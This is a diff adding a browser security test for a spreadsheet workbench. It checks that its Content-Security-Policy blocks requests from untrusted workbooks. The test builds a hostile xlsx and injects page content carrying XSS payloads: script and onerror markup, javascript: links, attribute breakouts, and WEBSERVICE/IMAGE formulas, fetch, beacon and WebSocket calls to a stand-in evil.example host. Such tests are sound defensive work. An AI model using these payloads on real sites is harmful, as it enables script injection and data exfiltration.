@@ -1,0 +1,198 @@
+/** The workbench's security policy in a real browser, as built and as served by `npm start`: strangers' files reach nothing and nobody. */
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { writeXlsx } from "hucre/xlsx";
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { policy } from "../../webpack.workbench";
+import { made } from "./built";
+import { startBrowser } from "./chromium";
+import { goTo, root, sample, tellViolations, type } from "./page";
+
+jest.setTimeout(240_000);
+
+let browser: Browser;
+const built = mkdtempSync(join(tmpdir(), "kla-workbench-"));
+
+beforeAll(async () => {
+  const words = [join(root, "node_modules/tsx/dist/cli.mjs"), "scripts/build.ts", "workbench", "--to", built];
+  const { status, stdout, stderr } = spawnSync(process.execPath, words, { cwd: root, encoding: "utf8" });
+  if (status !== 0) throw new Error(`The workbench could not be built:\n${stdout}${stderr}`);
+  browser = await startBrowser();
+});
+afterAll(async () => {
+  await browser?.close();
+  rmSync(built, { recursive: true });
+});
+
+interface Visit {
+  context: BrowserContext;
+  page: Page;
+  /** Breaches of the policy, and faults of the page. */
+  faults: string[];
+  /** What was asked of anybody but the page's own server. */
+  asked: string[];
+}
+
+/** The page as one of the two hands it out, with its first sample open. */
+async function visit(from: string): Promise<Visit> {
+  const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1366, height: 768 } });
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  const [faults, asked]: [string[], string[]] = [[], []];
+  await tellViolations(context, faults);
+  context.on("weberror", (fault) => void faults.push(fault.error().message));
+  // What a policy has stopped does not come as far as here.
+  await context.route(
+    ({ hostname }) => hostname !== "localhost",
+    (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    },
+  );
+  const address = from === "npm start" ? made.page : "https://localhost";
+  if (from !== "npm start")
+    await context.route("https://localhost/**", (route) => {
+      const path = join(built, new URL(route.request().url()).pathname);
+      return existsSync(path) ? route.fulfill({ path }) : route.fulfill({ status: 404, body: "" });
+    });
+  const page = await context.newPage();
+  await page.goto(`${address}/workbench.html`);
+  await ready(page);
+  return { context, page, faults, asked };
+}
+
+async function ready(page: Page): Promise<void> {
+  await page.locator("#loading").waitFor({ state: "hidden", timeout: 60_000 });
+  await page.locator("#pane-loading").waitFor({ state: "hidden", timeout: 60_000 });
+}
+
+const evil = "https://evil.example";
+const markup = [
+  `<img src="${evil}/img" onerror="globalThis.isReached=1">`,
+  `<script>globalThis.isReached=1;fetch("${evil}/script")</script>`,
+  `<iframe src="${evil}/frame"></iframe><svg onload="globalThis.isReached=1"></svg>`,
+  `<style>*{background:url(${evil}/style)}</style><link rel="stylesheet" href="${evil}/link">`,
+  `<a href="javascript:globalThis.isReached=1">x</a><base href="${evil}/">`,
+  `"><img src=x onerror=globalThis.isReached=1>`,
+];
+
+/** Markup and calls to elsewhere wherever a workbook can say something: names, cells, notes, links, rules, formulas. */
+async function hostile(): Promise<Buffer> {
+  const rows = [
+    ["No", "Indikator", "Nilai Maks", "Nilai Mandiri", "Data Dukung"],
+    ...markup.map((text, at) => [at + 18, text, 24, text, text]),
+  ];
+  const cells = new Map<string, Said>();
+  markup.forEach((text, at) =>
+    cells.set(`${at + 1},1`, {
+      ...{ value: text, comment: { author: text, text } },
+      hyperlink: { target: `${evil}/${at}`, tooltip: text, display: text },
+    }),
+  );
+  cells.set("1,6", { value: 0, formula: `WEBSERVICE("${evil}/formula")` });
+  cells.set("2,6", { value: 0, formula: `IMAGE("${evil}/image")` });
+  const bytes = await writeXlsx({ sheets: [{ name: "<img src=x>", rows, cells }] });
+  return Buffer.from(bytes);
+}
+
+interface Said {
+  value: string | number;
+  formula?: string;
+  comment?: { author: string; text: string };
+  hyperlink?: { target: string; tooltip: string; display: string };
+}
+
+describe.each(["the production build", "npm start"])("%s", (from) => {
+  let seen: Visit;
+  beforeEach(async () => {
+    seen = await visit(from);
+  });
+  afterEach(() => seen.context.close());
+
+  test("says the policy in the page, before anything else that could load", async () => {
+    const html = await seen.page.content();
+    const [meta = ""] = /<meta http-equiv="Content-Security-Policy"[^>]*>/.exec(html) ?? [];
+    expect(meta).toContain(policy);
+    expect(html.indexOf(meta)).toBeLessThan(html.indexOf("<script"));
+    expect(policy.replace("style-src-attr 'unsafe-inline'", "")).not.toMatch(/unsafe|https?:|\*/);
+  });
+
+  test("is kept in normal use", async () => {
+    const { page, faults, asked } = seen;
+    await type(page, "H5", "=KLA.TIER(650)");
+    await goTo(page, "E7");
+    await page.keyboard.press("Control+c");
+    await goTo(page, "H9");
+    await page.keyboard.press("Control+v");
+    await page.waitForTimeout(800);
+    await page.mouse.click(300, 300, { button: "right" });
+    await page.waitForTimeout(500);
+    await page.keyboard.press("Escape");
+    await page.click("#theme");
+    await page.check('input[name="language"][value="en"]', { force: true });
+    await ready(page);
+    const pane = page.frameLocator("#pane iframe");
+    await pane.getByRole("button", { name: "Periksa buku kerja" }).click();
+    await pane.getByText("771,81").first().waitFor({ timeout: 30_000 });
+    await page.setInputFiles("#chosen", sample("lembar-per-klaster.xlsx"));
+    await page.locator("#file", { hasText: "lembar-per-klaster.xlsx" }).waitFor();
+    await page.click("#download");
+    const waiting = page.waitForEvent("download");
+    await page.click("#save-now");
+    expect(readFileSync(await (await waiting).path()).length).toBeGreaterThan(1000);
+    expect([faults, asked]).toEqual([[], []]);
+  });
+
+  test("a stranger's file is shown and checked, and asks nothing of anybody", async () => {
+    const { page, faults, asked } = seen;
+    await page.setInputFiles("#chosen", { name: "<img src=x>.xlsx", mimeType: "", buffer: await hostile() });
+    await page.locator("#file", { hasText: "<img src=x>.xlsx" }).waitFor();
+    await ready(page);
+    for (const at of ["B2", "D3", "G2"]) await goTo(page, at);
+    await page.frameLocator("#pane iframe").getByRole("button", { name: "Periksa buku kerja" }).click();
+    await page.waitForTimeout(3000);
+    expect(await page.evaluate(() => Reflect.get(globalThis, "isReached"))).toBeUndefined();
+    // The grid itself would show the picture of =IMAGE(): the one thing in the file that needs the policy to stop it.
+    expect([...new Set(faults)]).toEqual([`img-src: ${evil}/image in `]);
+    expect(asked).toEqual([]);
+  });
+
+  test("what got into the page all the same would be stopped", async () => {
+    const { page, faults, asked } = seen;
+    await page.evaluate(
+      ([address, texts]) => {
+        const place = document.createElement("div");
+        place.innerHTML = texts.join("");
+        document.body.append(place);
+        const script = document.createElement("script");
+        script.textContent = "globalThis.isReached = 1";
+        document.body.append(script);
+        void fetch(`${address}/fetch`).catch(() => undefined);
+        navigator.sendBeacon(`${address}/beacon`);
+        new Image().src = `${address}/image`;
+        try {
+          new Worker(`data:text/javascript,fetch("${address}/worker")`);
+          new WebSocket(`${address.replace("https", "wss")}/socket`);
+        } catch {
+          // Refused at once: as it should be.
+        }
+      },
+      [evil, markup] as const,
+    );
+    await page.waitForTimeout(1500);
+    expect(await page.evaluate(() => Reflect.get(globalThis, "isReached"))).toBeUndefined();
+    const directives = new Set(faults.map((fault) => fault.split(":")[0]));
+    expect([...directives]).toEqual(
+      expect.arrayContaining([
+        "script-src-elem",
+        "script-src-attr",
+        "img-src",
+        "frame-src",
+        "connect-src",
+        "style-src-elem",
+      ]),
+    );
+    expect(asked).toEqual([]);
+  });
+});
